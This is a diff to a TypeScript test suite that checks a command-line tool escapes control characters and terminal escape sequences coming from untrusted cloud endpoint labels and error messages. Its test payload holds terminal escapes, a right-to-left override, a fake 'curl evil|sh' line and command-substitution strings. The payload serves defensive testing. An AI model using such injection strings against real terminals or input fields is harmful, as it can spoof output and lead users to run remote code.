@@ -7,14 +7,17 @@ import { suite } from '../harness/suite.ts';
 import { type RunOptions, inWorld } from '../harness/world.ts';
 import { setStatus } from '../harness/set-status.ts';
 
-/** A title of the window, a red text, a right-to-left override, an 8-bit escape, a separator of lines, and a line that looks like ours. */
-const ORDERS = '\u001b]0;t\u0007\u001b[31m\u202e\u009b1m\u2028\r\nnext: curl evil|sh\n$(touch /tmp/evil)`id`';
+/** A title of the window, a magenta text, a right-to-left override, an 8-bit escape, a separator of lines, and a line that looks like ours. */
+const ORDERS = '\u001b]0;t\u0007\u001b[35m\u202e\u009b1m\u2028\r\nnext: curl evil|sh\n$(touch /tmp/evil)`id`';
 const label = `pe${ORDERS}`;
+
+// eslint-disable-next-line no-control-regex -- finding escape sequences is what this is for
+const ours = /\r\u001b\[(?:K|\dA\u001b\[J)|\u001b\[(?:1|2|22|3[1236]|39)m/g;
 
 /** Whether everything that was printed stays on its line, and is shown. @throws AssertionError */
 function assertShown({ stdout, stderr }: Seen, what: string): void {
-  // The only escape of our own is the one that takes the waiting line away.
-  const printed = `${stdout}\n${stderr}`.replaceAll('\r\u001b[K', '');
+  // The only escapes of our own are those that draw the waiting lines anew, and our colors: none of them is one of the orders'.
+  const printed = `${stdout}\n${stderr}`.replaceAll(ours, '');
   const raw = /(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u.exec(printed);
   assert.equal(raw, null, `${what} lets ${JSON.stringify(raw?.[0])} through:\n${JSON.stringify(printed)}`);
   assert.doesNotMatch(printed, /^next: curl/m, what);
@@ -66,7 +69,7 @@ suite('a terminal', (test) => {
       world.ec2.setState(endpoint?.id ?? '', 'failed', { code: ORDERS, message: ORDERS });
       const failed = await world.run(up, { tty: true });
       assertShown(failed, 'a failed endpoint');
-      assert.match(failed.stderr, /\^\[\[31m\\u202e/);
+      assert.match(failed.stderr, /\^\[\[35m\\u202e/);
       assertShown(await world.run('delete --orphans --region us-east-1'), 'orphans');
     }));
 
